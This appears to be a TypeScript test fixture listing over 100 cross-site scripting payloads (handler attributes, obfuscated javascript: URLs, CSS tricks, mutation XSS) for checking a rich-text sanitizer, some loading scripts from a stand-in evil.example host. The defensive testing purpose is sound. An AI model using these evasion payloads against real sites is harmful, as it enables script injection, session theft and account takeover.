/**
 * Cross-site scripting payloads for tests: every rich text field a plugin stores should come out of
 * `sanitize.richText` with none of them able to run. Each one calls `alert(1)` when it runs, so a browser test
 * can count what ran. Collected from the public XSS filter-evasion literature (OWASP cheat sheet, PortSwigger,
 * mutation XSS papers), written here from scratch.
 */
const JS = 'alert(1)';

const tags = ['img', 'svg', 'body', 'video', 'audio', 'iframe', 'details', 'input', 'select', 'textarea', 'marquee', 'object', 'a', 'div', 'span', 'p', 'table', 'td', 'math', 'style'];
const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter'];

const handlerPayloads = tags.flatMap((tag, i) => [
  `<${tag} src=x ${handlers[i % handlers.length]}=${JS}>`,
  `<${tag} ${handlers[(i + 3) % handlers.length]}="${JS}" autofocus tabindex=1>x</${tag}>`,
]);

const urlPayloads = [
  `<a href="javascript:${JS}">lien</a>`,
  `<a href="JaVaScRiPt:${JS}">lien</a>`,
  `<a href=" javascript:${JS}">lien</a>`,
  `<a href="java&#x09;script:${JS}">lien</a>`,
  `<a href="java\nscript:${JS}">lien</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${JS}">lien</a>`,
  `<a href="&#x6A;avascript:${JS}">lien</a>`,
  `<a href="javascript&colon;${JS}">lien</a>`,
  `<a href="vbscript:msgbox(1)">lien</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>`,
  `<a href="data:text/html,<script>${JS}</script>">lien</a>`,
  `<img src="javascript:${JS}">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:image/png;base64,iVBORw0KGgo=">`,
  `<img src=x:${JS}>`,
  `<img src="//evil.example/x.png" onerror=${JS}>`,
  `<audio src="javascript:${JS}" controls></audio>`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<iframe srcdoc="<script>${JS}</script>"></iframe>`,
  `<object data="javascript:${JS}"></object>`,
  `<embed src="javascript:${JS}">`,
  `<form action="javascript:${JS}"><button>envoyer</button></form>`,
  `<button formaction="javascript:${JS}">x</button>`,
  `<base href="javascript:${JS}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<link rel="stylesheet" href="javascript:${JS}">`,
  `<a href="https://exemple.fr" target="_blank" onclick="${JS}">ok</a>`,
  `<area href="javascript:${JS}">`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${JS}">x</maction></math>`,
  `<svg><a xlink:href="javascript:${JS}"><text x="20" y="20">x</text></a></svg>`,
];

const scriptPayloads = [
  `<script>${JS}</script>`,
  `<SCRIPT>${JS}</SCRIPT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script>/*</script><script>${JS}</script>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<<script>script>${JS}<</script>/script>`,
  `<script\x20type="text/javascript">${JS}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>`,
  `<template><script>${JS}</script></template>`,
  `<textarea><script>${JS}</script></textarea>`,
  `<title><img src=x onerror=${JS}></title>`,
  `<style><img src=x onerror=${JS}></style>`,
  `<xmp><img src=x onerror=${JS}></xmp>`,
  `<noembed><img src=x onerror=${JS}></noembed>`,
  `<plaintext><img src=x onerror=${JS}>`,
];

const stylePayloads = [
  `<p style="background-image: url(javascript:${JS})">x</p>`,
  `<p style="width: expression(${JS})">x</p>`,
  `<span style="color: red; background: url('javascript:${JS}')">x</span>`,
  `<p style="behavior: url(xss.htc)">x</p>`,
  `<p style="-moz-binding: url('https://evil.example/xss.xml#xss')">x</p>`,
  `<span style="font-size: 12px; position: fixed; top: 0; left: 0; width: 100%; height: 100%">cliquez</span>`,
  `<p style="color: expression(${JS})">x</p>`,
  `<style>@import 'javascript:${JS}';</style>`,
  `<style>body { background: url("javascript:${JS}") }</style>`,
  `<div style="animation-name: x" onanimationstart="${JS}">x</div>`,
];

const mutationPayloads = [
  `<svg><p><style><img src=x onerror=${JS}></style></p></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${JS}></style></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${JS}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
  `<img src="x\` \`<script>${JS}</script>"\` \`>`,
  `<img """><script>${JS}</script>">`,
  `<a title="&lt;img src=x onerror=${JS}&gt;">x</a>`,
  `<p title="</p><img src=x onerror=${JS}>">x</p>`,
  `<!--<img src="--><img src=x onerror=${JS}//">`,
  `<![CDATA[<img src=x onerror=${JS}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${JS}>`,
  `<img src=x onerror\x0b=${JS}>`,
  `<img src=x onerror\x00=${JS}>`,
  `<img/src=x/onerror=${JS}>`,
  `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>`,
  `<IMG SRC=x ONERROR=${JS}>`,
  `<span data-type="emoji" data-name="x" onmouseover="${JS}">😀</span>`,
  `<span data-type="inline-math" data-latex="\\href{javascript:${JS}}{x}"></span>`,
  `<div data-type="block-math" data-latex="x" onclick="${JS}"></div>`,
  `<mark data-color="red" style="background-color: red" onclick="${JS}">x</mark>`,
  `<table background="javascript:${JS}"><tr><td>x</td></tr></table>`,
  `<td background="javascript:${JS}">x</td>`,
  `<a href="https://exemple.fr" style="position:fixed;inset:0" onmouseover=${JS}>x</a>`,
  `<img src="/api/storage/files/1" onload="${JS}">`,
  `<audio src="/api/storage/files/2" onplay="${JS}" controls></audio>`,
  `<p><a href="\u0001javascript:${JS}">x</a></p>`,
  `<a href="%6A%61%76%61%73%63%72%69%70%74:${JS}">x</a>`,
  `<a href="jav&#x0A;ascript:${JS}">x</a>`,
  `<a href="jav&#x0D;ascript:${JS}">x</a>`,
  `<svg/onload=${JS}>`,
  `<body onload=${JS}>`,
  `<input autofocus onfocus=${JS}>`,
  `<details open ontoggle=${JS}>`,
  `<video><source onerror=${JS}></video>`,
  `<marquee onstart=${JS}>x</marquee>`,
  `<isindex type=image src=1 onerror=${JS}>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  `<a href="javascript://%0a${JS}">x</a>`,
  `<a href="https://exemple.fr" target="_self">x</a><script>${JS}</script>`,
];

/** The payloads: more than 100, each trying to run `alert(1)`. */
export const XSS_PAYLOADS: readonly string[] = [...handlerPayloads, ...urlPayloads, ...scriptPayloads, ...stylePayloads, ...mutationPayloads];
